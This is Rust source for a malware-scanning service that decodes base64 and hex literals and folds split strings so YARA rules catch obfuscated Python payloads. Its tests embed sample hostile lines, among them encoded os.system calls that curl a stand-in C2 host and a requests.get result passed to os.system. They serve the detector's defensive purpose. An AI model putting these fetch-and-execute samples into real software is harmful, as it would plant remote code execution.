    fn folded_constants_become_scannable_layers() {
        let rules = yara_engine::compile("rule c2 { strings: $a = \"bexlum.top\" condition: $a }")
            .expect("compile");
        let scanner = Scanner::new(&rules);
        let a = FileAnalysis::build(
            &entry("mod.py", "host = 'bex' + 'lum' + '.top'\n"),
            Some(&scanner),
            &ArtifactConfig::default(),
        );
        // No surface hit: the atom is split across three literals.
        assert!(a.yara_hits.as_ref().expect("hits").is_empty());
        // The folded layer rebuilds it and the scanner sees it.
        assert!(a
            .layers
            .iter()
            .any(|l| l.encoding == LayerEncoding::Folded && l.data == b"bexlum.top"));
        assert!(a.layer_hits.iter().any(|h| !h.is_empty()));
    }

    #[test]
    fn folded_constant_identical_to_a_surface_literal_is_skipped() {
        // `str(x)` of a constant folds to the same text the literal
        // table already carries — no synthetic layer.
        let a = analyze("x = 'plain-string-value'\ny = str(x)\n");
        assert!(
            a.layers.iter().all(|l| l.encoding != LayerEncoding::Folded),
            "unexpected folded layers: {:?}",
            a.layers
        );
    }

    /// Field-by-field artifact equality: the splice contract is that a
    /// spliced artifact is indistinguishable from a full build.
    fn assert_identical(a: &FileAnalysis, b: &FileAnalysis) {
        assert_eq!(a.digest, b.digest);
        assert_eq!(a.is_python, b.is_python);
        assert_eq!(a.bytes, b.bytes);
        assert_eq!(a.tokens, b.tokens, "token streams diverge");
        assert_eq!(
            a.tokens.to_vec(),
            b.tokens.to_vec(),
            "materialized token streams diverge"
        );
        assert_eq!(
            a.module.as_ref().map(|m| m.get()),
            b.module.as_ref().map(|m| m.get()),
            "modules diverge"
        );
        assert_eq!(a.strings, b.strings, "string tables diverge");
        assert_eq!(a.layers, b.layers, "decoded layers diverge");
        assert_eq!(a.yara_hits, b.yara_hits, "surface hits diverge");
        assert_eq!(a.layer_hits, b.layer_hits, "layer hits diverge");
        assert_eq!(a.taint, b.taint, "taint summaries diverge");
    }

    /// Builds the sibling from `old_code`, attempts a splice to
    /// `new_code`, and — when the splice engages — checks it against a
    /// full build of the new content. Returns whether it engaged.
    fn splice_vs_full(old_code: &str, new_code: &str, scanner: Option<&Scanner<'_>>) -> bool {
        let cfg = ArtifactConfig::default();
        let sibling = FileAnalysis::build(&entry("mod.py", old_code), scanner, &cfg);
        let new_entry = entry("mod.py", new_code);
        match FileAnalysis::build_spliced(&new_entry, &sibling, scanner, &cfg) {
            Some(spliced) => {
                let full = FileAnalysis::build(&new_entry, scanner, &cfg);
                assert_identical(&spliced.analysis, &full);
                assert!(spliced.relexed_bytes <= new_code.len() as u64);
                true
            }
            None => false,
        }
    }

    const SPLICE_BASE: &str = "import os\nimport base64\n\nA = 'alpha'\nB = 'beta'\n\ndef handler(arg):\n    data = arg.strip()\n    return data\n\nif A:\n    os.system('echo hi')\n\nC = A + B\nprint(C)\nD = 'delta'\nE2 = len(D)\nF = D + A\nG = C + D\nH = F + G\nprint(H)\n";

    #[test]
    fn splice_reproduces_full_build_on_one_line_bump() {
        let bumped = SPLICE_BASE.replace("B = 'beta'", "B = 'beta-2'");
        assert!(splice_vs_full(SPLICE_BASE, &bumped, None), "bump fell back");
    }

    #[test]
    fn splice_handles_first_line_and_eof_edits() {
        // First line: the window starts at offset 0 with an empty prefix.
        let first = SPLICE_BASE.replace("import os", "import os.path");
        assert!(splice_vs_full(SPLICE_BASE, &first, None));
        // Last line: no boundary after the edit, window runs to EOF.
        let last = SPLICE_BASE.replace("print(C)", "print(C, B)");
        assert!(splice_vs_full(SPLICE_BASE, &last, None));
    }

    #[test]
    fn splice_handles_insertions_and_deletions() {
        // Pure insertion at a statement boundary.
        let inserted = SPLICE_BASE.replace("C = A + B\n", "C = A + B\nD = C * 2\n");
        assert!(splice_vs_full(SPLICE_BASE, &inserted, None));
        // Whole-line deletion: the suffix shifts up by one line.
        let deleted = SPLICE_BASE.replace("B = 'beta'\n", "");
        assert!(splice_vs_full(SPLICE_BASE, &deleted, None));
    }

    #[test]
    fn splice_strips_the_synthetic_newline_of_a_comment_tail_window() {
        // Replacing a statement with a comment line makes the relexed
        // window end in a comment: its close-out emits a width-zero
        // NEWLINE the full lexer would not have mid-stream.
        let commented = SPLICE_BASE.replace("C = A + B", "# patched out");
        assert!(splice_vs_full(SPLICE_BASE, &commented, None));
    }

    #[test]
    fn splice_handles_statement_straddling_edits() {
        // The edit replaces the tail of a suite AND the statement after
        // it — the window must widen to cover both.
        let straddle = SPLICE_BASE.replace(
            "    return data\n\nif A:",
            "    return data.lower()\n\nwhile A:",
        );
        assert!(splice_vs_full(SPLICE_BASE, &straddle, None));
        // Indent-level change inside the suite.
        let reindent = SPLICE_BASE.replace(
            "    data = arg.strip()\n",
            "    if arg:\n        data = arg.strip()\n",
        );
        assert!(splice_vs_full(SPLICE_BASE, &reindent, None));
    }

    #[test]
    fn splice_recomputes_layers_and_hits_for_obfuscation_mutants() {
        let rules = yara_engine::compile("rule sys { strings: $a = \"os.system\" condition: $a }")
            .expect("compile");
        let scanner = Scanner::new(&rules);
        let v1 = digest::base64::encode(b"import os;os.system('id')");
        let v2 = digest::base64::encode(b"import os;os.system('curl http://bexlum.top')");
        let filler: String = (0..8).map(|i| format!("pad_{i} = {i} * {i}\n")).collect();
        let old_code =
            format!("import base64\n{filler}blob = '{v1}'\nrun(base64.b64decode(blob))\n");
        let new_code = old_code.replace(&v1, &v2);
        assert!(
            splice_vs_full(&old_code, &new_code, Some(&scanner)),
            "payload swap fell back"
        );
    }

    #[test]
    fn splice_falls_back_when_not_provably_clean() {
        let cfg = ArtifactConfig::default();
        let sibling = analyze(SPLICE_BASE);
        // An edit that opens a bracket leaves the relexed window without
        // a statement boundary at its end.
        let unclosed = SPLICE_BASE.replace("C = A + B", "C = (A,");
        assert!(
            FileAnalysis::build_spliced(&entry("mod.py", &unclosed), &sibling, None, &cfg)
                .is_none(),
            "unclosed bracket must fall back"
        );
        // Rewriting more than half the file fails the profitability gate.
        let rewrite = format!("Z = 0\n{}", "Y = 1\n".repeat(40));
        assert!(
            FileAnalysis::build_spliced(&entry("mod.py", &rewrite), &sibling, None, &cfg).is_none(),
            "wholesale rewrite must fall back"
        );
        // Non-Python entries never splice.
        assert!(FileAnalysis::build_spliced(
            &entry("PKG-INFO", "Version: 2\n"),
            &sibling,
            None,
            &cfg
        )
        .is_none());
        // Invalid UTF-8 on either side falls back (spans index decoded
        // text, and lossy decoding changes byte widths).
        let bad = FileEntry::new("mod.py", vec![0xff, 0xfe, b'\n']);
        assert!(FileAnalysis::build_spliced(&bad, &sibling, None, &cfg).is_none());
        let bad_sibling = FileAnalysis::build(&bad, None, &cfg);
        assert!(FileAnalysis::build_spliced(
            &entry("mod.py", SPLICE_BASE),
            &bad_sibling,
            None,
            &cfg
        )
        .is_none());
    }

    struct XorShift(u64);

    impl XorShift {
        fn next(&mut self) -> u64 {
            let mut x = self.0;
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            self.0 = x;
            x
        }

        fn below(&mut self, n: usize) -> usize {
            (self.next() % n as u64) as usize
        }
    }

    /// The differential property at the heart of the feature: over a
    /// stream of random edits (replacements, insertions, deletions —
    /// including ones that land mid-token, mid-string or mid-suite),
    /// every engaged splice must reproduce the full build exactly, and
    /// enough edits must engage for the fast path to matter.
    #[test]
    fn splice_differential_over_random_edit_stream() {
        let fragments: &[&str] = &[
            "",
            "x9 = 1\n",
            "zz",
            "'s'",
            "  ",
            "# note\n",
            "q = base64.b64decode(A)\n",
            "(",
            "\n",
            "def g():\n    pass\n",
            "'bexlum",
        ];
        let mut rng = XorShift(0x1234_5678_9abc_def0);
        let mut engaged = 0usize;
        let mut current = SPLICE_BASE.to_owned();
        for round in 0..300 {
            let pos = rng.below(current.len());
            let cut = rng.below(12).min(current.len() - pos);
            let frag = fragments[rng.below(fragments.len())];
            if !current.is_char_boundary(pos) || !current.is_char_boundary(pos + cut) {
                continue;
            }
            let edited = format!("{}{}{}", &current[..pos], frag, &current[pos + cut..]);
            if edited == current {
                continue;
            }
            if splice_vs_full(&current, &edited, None) {
                engaged += 1;
            }
            // Chain versions like a registry stream, resetting whenever
            // the mutations have shredded the file into noise.
            current = if round % 7 == 6 {
                SPLICE_BASE.to_owned()
            } else {
                edited
            };
        }
        assert!(
            engaged >= 40,
            "splice engaged on only {engaged}/300 random edits"
        );
    }

    #[test]
    fn artifact_is_deterministic_for_identical_content() {
        let code = format!(
            "blob = '{}'\nprint('x')\n",
            digest::base64::encode(b"import os;os.system('id')")
        );
        let a = analyze(&code);
        let b = analyze(&code);
        assert_eq!(a.digest, b.digest);
        assert_eq!(a.layers, b.layers);
        assert_eq!(a.strings, b.strings);
        assert!(a.stored_bytes() > 0);
        assert_eq!(a.stored_bytes(), b.stored_bytes());
    }
}

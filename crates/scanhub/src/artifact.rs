//! Per-file analysis artifacts: the parse-once IR every engine shares.
//!
//! Successive versions of a registry package share most of their files,
//! yet the seed scan path treated every request as opaque bytes and
//! re-ran lexing, parsing and string scanning per request. A
//! [`FileAnalysis`] computes everything a file will ever be asked for —
//! spanned tokens, the tolerant-parsed module, the interned
//! string-literal table, **decoded layers** (base64/hex payloads hidden
//! in literals) and the ruleset's string-definition hits on every layer
//! — exactly once, keyed by content digest, so the artifact cache turns
//! a version bump into `changed files` parses instead of `all files`.
//!
//! Decoded layers close a measured evasion gap: `docs/threat_model.md`
//! records a ~37-point recall collapse under string-encoding
//! obfuscation for rules that only see surface text. Literals above an
//! entropy/length threshold are base64/hex-decoded (recursively, to a
//! bounded depth — attackers double-encode), and YARA scans each
//! decoded layer as its own unit, with findings tagged by layer so
//! verdicts stay explainable.

use std::fmt;
use std::sync::Arc;

use pysrc::{Module, SpannedToken, StringTable};
use yara_engine::{FileHits, Scanner};

use crate::cache::DigestKey;
use crate::request::FileEntry;

/// How a decoded layer was recovered from its source literal.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum LayerEncoding {
    /// RFC 4648 base64 (the `b64decode(...)` idiom).
    Base64,
    /// Lowercase/uppercase hex pairs (the `bytes.fromhex(...)` idiom).
    Hex,
    /// Constant folded by the dataflow engine: a string rebuilt from a
    /// concat/`%`-format/decode chain that no single literal carries.
    Folded,
}

impl fmt::Display for LayerEncoding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            LayerEncoding::Base64 => "base64",
            LayerEncoding::Hex => "hex",
            LayerEncoding::Folded => "folded",
        })
    }
}

/// One decoded string-literal payload of a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DecodedLayer {
    /// The encoding that produced this layer.
    pub encoding: LayerEncoding,
    /// Nesting depth: 1 decodes a surface literal, 2 a literal found
    /// inside a depth-1 layer, and so on.
    pub depth: u8,
    /// 1-based source line of the (surface) literal this layer descends
    /// from — the explainability anchor for layer-tagged findings.
    pub line: u32,
    /// The decoded bytes, scanned by YARA as an independent unit.
    pub data: Vec<u8>,
}

/// Decoded-layer extraction thresholds.
#[derive(Debug, Clone)]
pub struct ArtifactConfig {
    /// Maximum decode recursion depth; 0 disables layer extraction
    /// entirely (the A/B lever for the layered-robustness measurement).
    pub max_decode_depth: u8,
    /// Minimum encoded-literal length worth attempting (short literals
    /// decode to nothing a rule could match).
    pub min_encoded_len: usize,
    /// Minimum Shannon entropy (bits/byte) of the literal text; prose
    /// and repeated-character padding stay below it, encoded payloads
    /// sit well above.
    pub min_entropy: f64,
    /// Hard per-file bound on extracted layers (decode-bomb guard).
    pub max_layers: usize,
    /// Run the behavioral taint analysis and fold constant strings into
    /// synthetic [`LayerEncoding::Folded`] layers. The A/B lever for the
    /// taint-robustness measurement and the warm-overhead bench.
    pub dataflow: bool,
}

impl Default for ArtifactConfig {
    fn default() -> Self {
        ArtifactConfig {
            max_decode_depth: 2,
            min_encoded_len: 12,
            min_entropy: 2.5,
            max_layers: 64,
            dataflow: true,
        }
    }
}

impl ArtifactConfig {
    /// A config with layer extraction disabled.
    pub fn without_layers() -> Self {
        ArtifactConfig {
            max_decode_depth: 0,
            ..ArtifactConfig::default()
        }
    }

    /// A config with the taint/fold stage disabled.
    pub fn without_dataflow() -> Self {
        ArtifactConfig {
            dataflow: false,
            ..ArtifactConfig::default()
        }
    }
}

/// The parse-once, content-addressed analysis of one file.
///
/// Everything here is a pure function of `(file bytes, python-ness,
/// ruleset, config)`, which is what makes the artifact cacheable: the
/// hub's [`crate::ScanHub`] keys a shared LRU by [`FileEntry::digest`]
/// and every engine — prefilter routing, YARA condition evaluation,
/// Semgrep's structural matcher, decoded-layer scanning — consumes the
/// same artifact without touching the bytes again.
#[derive(Debug)]
pub struct FileAnalysis {
    /// The content digest this artifact is addressed by.
    pub digest: DigestKey,
    /// The raw bytes (shared with the originating request — building an
    /// artifact copies no file content).
    pub bytes: Arc<Vec<u8>>,
    /// Whether the file was analyzed as Python source.
    pub is_python: bool,
    /// The spanned token stream (empty for non-Python files). Literals
    /// survive here even inside statements the tolerant parser degraded
    /// to `Stmt::Other`.
    pub tokens: Vec<SpannedToken>,
    /// The tolerant-parsed module (Python files only).
    pub module: Option<Module>,
    /// The interned string-literal table.
    pub strings: StringTable,
    /// Decoded payload layers, in discovery order. Includes synthetic
    /// [`LayerEncoding::Folded`] layers for constants the taint engine
    /// rebuilt from concat/decode chains.
    pub layers: Vec<DecodedLayer>,
    /// The whole ruleset's string-definition hits on the raw bytes
    /// (`None` when the hub has no YARA ruleset).
    pub yara_hits: Option<FileHits>,
    /// Per-layer hit sets, parallel to `layers`.
    pub layer_hits: Vec<FileHits>,
    /// The behavioral taint summary (source→sink flows plus folded
    /// constants), computed exactly once per digest like everything else
    /// in the artifact. `None` for non-Python files or when
    /// [`ArtifactConfig::dataflow`] is off.
    pub taint: Option<dataflow::TaintSummary>,
}

impl FileAnalysis {
    /// Builds the artifact for one file entry. This is the only place
    /// in the scan path that lexes, parses, decodes or byte-scans file
    /// content; everything downstream consumes the result.
    pub fn build(entry: &FileEntry, scanner: Option<&Scanner<'_>>, cfg: &ArtifactConfig) -> Self {
        let bytes = entry.shared_bytes();
        let is_python = entry.is_python();
        let (tokens, module, strings) = if is_python {
            let text = String::from_utf8_lossy(&bytes);
            let tokens = pysrc::lex_spanned(&text);
            let module = pysrc::parse_module(&text);
            let strings = pysrc::intern_strings(&tokens);
            (tokens, Some(module), strings)
        } else {
            (Vec::new(), None, StringTable::default())
        };
        let mut layers = decode_layers(&strings, cfg);
        let taint = match (&module, cfg.dataflow) {
            (Some(m), true) => Some(dataflow::analyze(m)),
            _ => None,
        };
        if let Some(summary) = &taint {
            fold_layers(&mut layers, &strings, summary, cfg);
        }
        let yara_hits = scanner.map(|s| s.collect_hits(&bytes));
        let layer_hits = scanner.map_or_else(Vec::new, |s| {
            layers.iter().map(|l| s.collect_hits(&l.data)).collect()
        });
        FileAnalysis {
            digest: entry.digest(),
            bytes,
            is_python,
            tokens,
            module,
            strings,
            layers,
            yara_hits,
            layer_hits,
            taint,
        }
    }

    /// Approximate heap footprint, for cache accounting.
    pub fn stored_bytes(&self) -> usize {
        self.bytes.len()
            + self.layers.iter().map(|l| l.data.len() + 16).sum::<usize>()
            + self
                .strings
                .literals
                .iter()
                .map(|s| s.len() + 24)
                .sum::<usize>()
            + self.strings.refs.len() * 8
            + self.tokens.len() * 64
            + self
                .yara_hits
                .as_ref()
                .map_or(0, yara_engine::FileHits::stored_bytes)
            + self
                .layer_hits
                .iter()
                .map(yara_engine::FileHits::stored_bytes)
                .sum::<usize>()
            + self
                .taint
                .as_ref()
                .map_or(0, dataflow::TaintSummary::stored_bytes)
    }
}

/// Appends synthetic layers for constants the taint engine folded out
/// of concat/format/decode chains, so YARA atoms split across `'ev' +
/// 'il.com'` still match. A folded constant that already exists as a
/// surface literal adds no new evidence and is skipped; one that is
/// itself an encoded payload (the obfuscator stacks string-splitting
/// *under* base64) gets a further decode attempt.
fn fold_layers(
    layers: &mut Vec<DecodedLayer>,
    strings: &StringTable,
    summary: &dataflow::TaintSummary,
    cfg: &ArtifactConfig,
) {
    for fc in &summary.folded {
        if layers.len() >= cfg.max_layers {
            break;
        }
        let data = fc.text.as_bytes().to_vec();
        if layers.iter().any(|l| l.data == data) || strings.literals.contains(&fc.text) {
            continue;
        }
        if let Some((encoding, decoded)) = decode_candidate(&fc.text, cfg) {
            if cfg.max_decode_depth > 0 && !layers.iter().any(|l| l.data == decoded) {
                layers.push(DecodedLayer {
                    encoding,
                    depth: 2,
                    line: fc.line,
                    data: decoded,
                });
            }
        }
        layers.push(DecodedLayer {
            encoding: LayerEncoding::Folded,
            depth: 1,
            line: fc.line,
            data,
        });
    }
}

/// Extracts decoded layers from a file's interned literals, recursing
/// into layers that themselves contain encoded literals.
fn decode_layers(strings: &StringTable, cfg: &ArtifactConfig) -> Vec<DecodedLayer> {
    let mut layers: Vec<DecodedLayer> = Vec::new();
    if cfg.max_decode_depth == 0 {
        return layers;
    }
    // One pass over the refs for first-occurrence lines: a per-literal
    // `first_line` lookup would be O(literals × refs), quadratic on
    // attacker-controlled input.
    let mut first_lines = vec![0u32; strings.literals.len()];
    for r in strings.refs.iter().rev() {
        first_lines[r.literal as usize] = r.line;
    }
    // (text to examine, depth it would decode at, anchor line)
    let mut pending: Vec<(String, u8, u32)> = Vec::new();
    for (idx, lit) in strings.literals.iter().enumerate() {
        pending.push((lit.clone(), 1, first_lines[idx]));
    }
    while let Some((text, depth, line)) = pending.pop() {
        if layers.len() >= cfg.max_layers {
            break;
        }
        let Some((encoding, data)) = decode_candidate(&text, cfg) else {
            continue;
        };
        if layers.iter().any(|l| l.data == data) {
            continue;
        }
        if depth < cfg.max_decode_depth {
            if let Ok(inner) = std::str::from_utf8(&data) {
                // A decoded payload that is itself Python carries its
                // own literals (attackers double-encode); a bare blob
                // may simply be encoded a second time.
                let inner_strings = pysrc::intern_strings(&pysrc::lex_spanned(inner));
                for lit in &inner_strings.literals {
                    pending.push((lit.clone(), depth + 1, line));
                }
                pending.push((inner.to_owned(), depth + 1, line));
            }
        }
        layers.push(DecodedLayer {
            encoding,
            depth,
            line,
            data,
        });
    }
    layers
}

/// Attempts to decode one literal, preferring hex (every hex string is
/// also base64-alphabet, so the more specific decoder goes first).
fn decode_candidate(text: &str, cfg: &ArtifactConfig) -> Option<(LayerEncoding, Vec<u8>)> {
    let t = text.trim();
    if t.len() < cfg.min_encoded_len || digest::shannon_entropy(t.as_bytes()) < cfg.min_entropy {
        return None;
    }
    if looks_hex(t) {
        return decode_hex(t).map(|d| (LayerEncoding::Hex, d));
    }
    if looks_base64(t) {
        return digest::base64::decode(t)
            .ok()
            .filter(|d| !d.is_empty())
            .map(|d| (LayerEncoding::Base64, d));
    }
    None
}

fn looks_hex(t: &str) -> bool {
    t.len().is_multiple_of(2)
        && t.bytes().all(|b| b.is_ascii_hexdigit())
        // Require at least one letter so long decimal ids don't decode.
        && t.bytes().any(|b| b.is_ascii_alphabetic())
}

fn decode_hex(t: &str) -> Option<Vec<u8>> {
    t.as_bytes()
        .chunks_exact(2)
        .map(|pair| {
            let hi = (pair[0] as char).to_digit(16)?;
            let lo = (pair[1] as char).to_digit(16)?;
            Some((hi * 16 + lo) as u8)
        })
        .collect()
}

fn looks_base64(t: &str) -> bool {
    if !t.len().is_multiple_of(4) {
        return false;
    }
    let body = t.trim_end_matches('=');
    if t.len() - body.len() > 2 {
        return false;
    }
    body.bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(name: &str, code: &str) -> FileEntry {
        FileEntry::new(name, code.as_bytes().to_vec())
    }

    fn analyze(code: &str) -> FileAnalysis {
        FileAnalysis::build(&entry("mod.py", code), None, &ArtifactConfig::default())
    }

    #[test]
    fn python_entry_carries_tokens_module_and_strings() {
        let a = analyze("import os\nc2 = 'bexlum.top'\nos.system('id')\n");
        assert!(a.is_python);
        assert!(!a.tokens.is_empty());
        let module = a.module.as_ref().expect("parsed module");
        assert_eq!(module.body.len(), 3);
        assert!(a.strings.literals.contains(&"bexlum.top".to_owned()));
        assert!(a.yara_hits.is_none(), "no scanner supplied");
    }

    #[test]
    fn non_python_entry_skips_python_analysis() {
        let a = FileAnalysis::build(
            &entry("PKG-INFO", "Name: pkg\nVersion: 1.0\n"),
            None,
            &ArtifactConfig::default(),
        );
        assert!(!a.is_python);
        assert!(a.module.is_none());
        assert!(a.tokens.is_empty());
        assert!(a.strings.is_empty());
        assert!(a.layers.is_empty());
    }

    #[test]
    fn base64_literal_above_threshold_is_decoded() {
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let a = analyze(&format!(
            "import base64\nblob = '{payload}'\nrun(base64.b64decode(blob))\n"
        ));
        assert_eq!(a.layers.len(), 1);
        let layer = &a.layers[0];
        assert_eq!(layer.encoding, LayerEncoding::Base64);
        assert_eq!(layer.depth, 1);
        assert_eq!(layer.line, 2);
        assert_eq!(layer.data, b"import os;os.system('id')");
    }

    #[test]
    fn hex_literal_is_decoded_as_hex_not_base64() {
        let hex: String = b"os.system('id')"
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        let a = analyze(&format!("cmd = bytes.fromhex('{hex}')\n"));
        assert_eq!(a.layers.len(), 1);
        assert_eq!(a.layers[0].encoding, LayerEncoding::Hex);
        assert_eq!(a.layers[0].data, b"os.system('id')");
    }

    #[test]
    fn short_or_low_entropy_literals_are_not_decoded() {
        // Short ('aWQ=' is base64 of 'id'), low-entropy padding, and
        // prose all stay un-decoded.
        let a = analyze(
            "a = 'aWQ='\nb = 'aaaaaaaaaaaaaaaaaaaaaaaa'\nc = 'the quick brown fox jumps'\n",
        );
        assert!(a.layers.is_empty(), "unexpected layers: {:?}", a.layers);
    }

    #[test]
    fn double_encoded_payload_recurses_to_bounded_depth() {
        let inner = digest::base64::encode(b"os.system('curl http://bexlum.top')");
        let once = format!("__import__('base64').b64decode('{inner}').decode('utf-8')");
        let outer = digest::base64::encode(once.as_bytes());
        let a = analyze(&format!("layered = '{outer}'\n"));
        // Depth 1: the decoded python snippet; depth 2: the payload its
        // literal hides.
        assert!(a.layers.iter().any(|l| l.depth == 1));
        let deep: Vec<&DecodedLayer> = a.layers.iter().filter(|l| l.depth == 2).collect();
        assert!(
            deep.iter()
                .any(|l| l.data == b"os.system('curl http://bexlum.top')"),
            "depth-2 payload not recovered: {:?}",
            a.layers
        );
        // Depth is bounded: default config stops at 2.
        assert!(a.layers.iter().all(|l| l.depth <= 2));
    }

    #[test]
    fn zero_depth_config_extracts_nothing() {
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let a = FileAnalysis::build(
            &entry("mod.py", &format!("blob = '{payload}'\n")),
            None,
            &ArtifactConfig::without_layers(),
        );
        assert!(a.layers.is_empty());
    }

    #[test]
    fn layer_extraction_is_bounded() {
        let mut code = String::new();
        for i in 0..200 {
            let payload = digest::base64::encode(format!("payload number {i:04}").as_bytes());
            code.push_str(&format!("x{i} = '{payload}'\n"));
        }
        let a = analyze(&code);
        assert!(a.layers.len() <= ArtifactConfig::default().max_layers);
        assert!(!a.layers.is_empty());
    }

    #[test]
    fn scanner_hits_cover_raw_bytes_and_layers() {
        let rules = yara_engine::compile("rule sys { strings: $a = \"os.system\" condition: $a }")
            .expect("compile");
        let scanner = Scanner::new(&rules);
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let a = FileAnalysis::build(
            &entry("mod.py", &format!("blob = '{payload}'\n")),
            Some(&scanner),
            &ArtifactConfig::default(),
        );
        // Raw bytes: no surface hit (the atom is encoded away).
        assert!(a.yara_hits.as_ref().expect("hits").is_empty());
        // The decoded layer exposes it.
        assert_eq!(a.layer_hits.len(), a.layers.len());
        assert!(a.layer_hits.iter().any(|h| !h.is_empty()));
    }

    #[test]
    fn taint_summary_rides_the_artifact() {
        let a = analyze(
            "import requests\nimport os\ncmd = requests.get('http://c2.evil/t').text\nos.system(cmd)\n",
        );
        let taint = a.taint.as_ref().expect("taint summary");
        assert_eq!(taint.flows.len(), 1);
        assert_eq!(taint.flows[0].sink, "os.system");
        // The config lever skips the stage entirely.
        let off = FileAnalysis::build(
            &entry("mod.py", "x = 1\n"),
            None,
            &ArtifactConfig::without_dataflow(),
        );
        assert!(off.taint.is_none());
    }

    #[test]
    fn folded_constants_become_scannable_layers() {
        let rules = yara_engine::compile("rule c2 { strings: $a = \"bexlum.top\" condition: $a }")
            .expect("compile");
        let scanner = Scanner::new(&rules);
        let a = FileAnalysis::build(
            &entry("mod.py", "host = 'bex' + 'lum' + '.top'\n"),
            Some(&scanner),
            &ArtifactConfig::default(),
        );
        // No surface hit: the atom is split across three literals.
        assert!(a.yara_hits.as_ref().expect("hits").is_empty());
        // The folded layer rebuilds it and the scanner sees it.
        assert!(a
            .layers
            .iter()
            .any(|l| l.encoding == LayerEncoding::Folded && l.data == b"bexlum.top"));
        assert!(a.layer_hits.iter().any(|h| !h.is_empty()));
    }

    #[test]
    fn folded_constant_identical_to_a_surface_literal_is_skipped() {
        // `str(x)` of a constant folds to the same text the literal
        // table already carries — no synthetic layer.
        let a = analyze("x = 'plain-string-value'\ny = str(x)\n");
        assert!(
            a.layers.iter().all(|l| l.encoding != LayerEncoding::Folded),
            "unexpected folded layers: {:?}",
            a.layers
        );
    }

    #[test]
    fn artifact_is_deterministic_for_identical_content() {
        let code = format!(
            "blob = '{}'\nprint('x')\n",
            digest::base64::encode(b"import os;os.system('id')")
        );
        let a = analyze(&code);
        let b = analyze(&code);
        assert_eq!(a.digest, b.digest);
        assert_eq!(a.layers, b.layers);
        assert_eq!(a.strings, b.strings);
        assert!(a.stored_bytes() > 0);
        assert_eq!(a.stored_bytes(), b.stored_bytes());
    }
}

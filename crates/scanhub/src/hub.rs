//! The streaming scan service: sharded workers, bounded ingestion queue,
//! digest cache, prefilter routing.

use std::collections::{HashSet, VecDeque};
use std::sync::atomic::AtomicU64;
use std::sync::{Arc, Condvar, Mutex};
use std::thread::JoinHandle;

use semgrep_engine::{CompiledSemgrepRules, MatchScratch, MatchSet, SemgrepMetrics};
use yara_engine::{CompiledRules, ScanScratch, Scanner};

use crate::cache::{DigestKey, VerdictCache};
use crate::prefilter::{PrefilterIndex, PrefilterScratch, Routing};
use crate::request::ScanRequest;
use crate::stats::{HubCounters, HubStats};
use crate::verdict::Verdict;

/// Service tuning knobs.
#[derive(Debug, Clone)]
pub struct HubConfig {
    /// Worker threads (each with its own reusable scanner state).
    pub workers: usize,
    /// Bounded submission queue length; a full queue blocks `submit`
    /// (backpressure toward the ingestion side).
    pub queue_capacity: usize,
    /// Verdict cache entries; 0 disables caching.
    pub cache_capacity: usize,
    /// Literal prefilter routing; disabling scans every rule (A/B lever
    /// for the throughput benchmark and the equivalence property test).
    pub prefilter: bool,
}

impl Default for HubConfig {
    fn default() -> Self {
        HubConfig {
            workers: std::thread::available_parallelism()
                .map(|n| n.get())
                .unwrap_or(4),
            queue_capacity: 256,
            cache_capacity: 4096,
            prefilter: true,
        }
    }
}

struct QueueState {
    jobs: VecDeque<Job>,
    closed: bool,
}

struct Job {
    request: ScanRequest,
    digest: Option<DigestKey>,
    ticket: Arc<TicketState>,
}

struct TicketState {
    slot: Mutex<Option<Result<Verdict, String>>>,
    ready: Condvar,
}

impl TicketState {
    fn fulfill(&self, outcome: Result<Verdict, String>) {
        *self.slot.lock().expect("ticket lock") = Some(outcome);
        self.ready.notify_all();
    }
}

/// A claim on one submitted package's verdict.
#[must_use = "a ticket must be waited on to observe the verdict"]
pub struct Ticket {
    state: Arc<TicketState>,
}

impl Ticket {
    fn ready(verdict: Verdict) -> Self {
        Ticket {
            state: Arc::new(TicketState {
                slot: Mutex::new(Some(Ok(verdict))),
                ready: Condvar::new(),
            }),
        }
    }

    /// Blocks until the verdict is available.
    ///
    /// # Panics
    ///
    /// Propagates a worker panic that occurred while scanning this
    /// request (the worker itself survives and keeps serving the queue).
    pub fn wait(&self) -> Verdict {
        let mut slot = self.state.slot.lock().expect("ticket lock");
        loop {
            match slot.as_ref() {
                Some(Ok(v)) => return v.clone(),
                Some(Err(msg)) => panic!("{msg}"),
                None => slot = self.state.ready.wait(slot).expect("ticket wait"),
            }
        }
    }
}

struct Shared {
    yara: Option<CompiledRules>,
    semgrep: Option<CompiledSemgrepRules>,
    index: PrefilterIndex,
    prefilter: bool,
    queue: Mutex<QueueState>,
    not_empty: Condvar,
    not_full: Condvar,
    capacity: usize,
    cache: Option<Mutex<VerdictCache>>,
    counters: HubCounters,
}

/// A streaming scan service over one compiled rule bundle.
///
/// Workers are spawned at construction; [`ScanHub::submit`] enqueues
/// packages (blocking when the bounded queue is full) and returns a
/// [`Ticket`] redeemable for the [`Verdict`]. Dropping the hub drains the
/// queue and joins the workers.
pub struct ScanHub {
    shared: Arc<Shared>,
    workers: Vec<JoinHandle<()>>,
}

impl ScanHub {
    /// Builds a hub over the given rule sets.
    pub fn new(
        yara: Option<CompiledRules>,
        semgrep: Option<CompiledSemgrepRules>,
        config: HubConfig,
    ) -> Self {
        let index = PrefilterIndex::build(yara.as_ref(), semgrep.as_ref());
        let shared = Arc::new(Shared {
            yara,
            semgrep,
            index,
            prefilter: config.prefilter,
            queue: Mutex::new(QueueState {
                jobs: VecDeque::new(),
                closed: false,
            }),
            not_empty: Condvar::new(),
            not_full: Condvar::new(),
            capacity: config.queue_capacity.max(1),
            cache: (config.cache_capacity > 0)
                .then(|| Mutex::new(VerdictCache::new(config.cache_capacity))),
            counters: HubCounters::default(),
        });
        let workers = (0..config.workers.max(1))
            .map(|_| {
                let shared = Arc::clone(&shared);
                std::thread::spawn(move || worker_loop(&shared))
            })
            .collect();
        ScanHub { shared, workers }
    }

    /// The prefilter index (for introspection and reporting).
    pub fn prefilter_index(&self) -> &PrefilterIndex {
        &self.shared.index
